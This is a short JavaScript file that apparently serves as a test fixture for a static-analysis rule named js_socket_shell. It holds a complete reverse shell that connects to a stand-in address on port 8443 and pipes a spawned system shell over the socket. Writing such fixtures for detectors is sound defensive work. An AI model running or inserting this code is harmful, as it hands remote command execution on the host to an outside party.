// the shell's path given a name before the spawn, the socket piped into its stdin
const net = require('net');
const { spawn } = require('child_process');
const shell = process.platform === 'win32' ? 'cmd.exe' : '/bin/sh';
const socket = new net.Socket();
socket.connect(8443, '203.0.113.9', () => {
  const sh = spawn(shell, [], { stdio: ['pipe', 'pipe', 'pipe'] });
  // ruleid: js_socket_shell
  socket.pipe(sh.stdin);
  sh.stdout.on('data', (d) => socket.write(d));
});
